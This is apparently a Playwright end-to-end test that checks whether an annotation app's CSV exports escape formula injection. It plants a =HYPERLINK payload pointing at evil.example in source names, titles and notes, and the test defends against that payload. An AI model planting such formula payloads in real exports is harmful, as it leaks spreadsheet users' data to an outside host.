import { randomBytes } from "node:crypto";
import { request as playwrightRequest, type Download, type Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { annotate, spanOf } from "./support/annotate-api";
import { expect, signInPage, signInRequest, test } from "./support/fixtures";

// Every CSV a person can download, with a formula planted in a source name,
// an article title and a note: none of them may hand a spreadsheet a cell that
// starts a formula (OWASP CSV injection). The dataset CSV can be asked for raw.

const FORMULA = `=HYPERLINK("https://evil.example/?x="&A1,"Details")`;
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

function expectNoFormula(csv: string, where: string) {
  const records: string[][] = parse(csv, { relax_column_count: true, relax_quotes: true });
  for (const cell of records.flat()) if (!NUMBER.test(cell)) expect(cell.trimStart(), `${where}: ${cell}`).not.toMatch(FORMULA_START);
}

async function downloaded(page: Page, click: () => Promise<void>): Promise<string> {
  const [download]: [Download, void] = await Promise.all([page.waitForEvent("download"), click()]);
  return Buffer.concat(await (await download.createReadStream()).toArray()).toString("utf8");
}

test("every CSV download neutralises a planted =HYPERLINK in source names, titles and notes", async ({ browser, baseURL }) => {
  const tag = randomBytes(4).toString("hex");
  const source = `${FORMULA} ${tag}`;
  const title = `@${FORMULA} ${tag}`;
  const [a1, a2] = [await playwrightRequest.newContext({ baseURL }), await playwrightRequest.newContext({ baseURL })];
  await signInRequest(a1, "analyst1");
  await signInRequest(a2, "analyst2");
  const created = await a1.post("/api/articles", { data: { source: { name: source }, title, body: `The minister said the so-called reform worked. ${tag}` } });
  expect(created.status(), await created.text()).toBe(201);
  const { id: articleId } = (await created.json()) as { id: string };
  const noted = await a1.post(`/api/articles/${articleId}/annotations`, { data: { label: "loaded_language", ...(await spanOf(a1, articleId, "so-called")), note: `-${FORMULA}` } });
  expect(noted.status(), await noted.text()).toBe(201);
  await annotate(a2, articleId, "loaded_language", "so-called");
  const { source: { id } } = (await (await a1.get(`/api/articles/${articleId}`)).json()) as { source: { id: string } };
  await Promise.all([a1.dispose(), a2.dispose()]);

  const reviewer = await (await browser.newContext()).newPage();
  await signInPage(reviewer, "reviewer");

  // The dataset CSV: safe by default, exact with csvSafe=0.
  const dataset = await (await reviewer.request.get(`/api/export?format=csv&sourceId=${id}`)).text();
  expectNoFormula(dataset, "dataset CSV");
  expect(dataset).toContain(`"'-${FORMULA.replaceAll('"', '""')}"`);
  const raw = await (await reviewer.request.get(`/api/export?format=csv&sourceId=${id}&csvSafe=0`)).text();
  expect(raw).toContain(`"-${FORMULA.replaceAll('"', '""')}"`);

  // The sources table.
  await reviewer.goto("/sources");
  await expect(reviewer.getByRole("link", { name: source })).toBeVisible();
  const sources = await downloaded(reviewer, () => reviewer.getByRole("button", { name: "Download CSV" }).first().click());
  expect(sources).toContain(tag);
  expectNoFormula(sources, "sources CSV");

  // The evidence behind a figure on the source's page.
  await reviewer.goto(`/sources/${id}`);
  await reviewer.getByRole("button", { name: /^Loaded language, .* show spans$/ }).first().click();
  const evidence = reviewer.getByRole("region", { name: "Evidence" });
  await expect(evidence.getByRole("link", { name: "“so-called”" }).first()).toBeVisible();
  const evidenceCsv = await downloaded(reviewer, () => evidence.getByRole("button", { name: "Download CSV" }).click());
  expect(evidenceCsv).toContain(tag);
  expectNoFormula(evidenceCsv, "evidence CSV");

  // The agreement report, whose by-source table names the source.
  await reviewer.goto("/agreement");
  await expect(reviewer.getByRole("table", { name: "By source" })).toContainText(tag);
  const report = await downloaded(reviewer, () => reviewer.getByRole("button", { name: "Download CSV" }).click());
  expect(report).toContain(tag);
  expectNoFormula(report, "agreement report CSV");
});
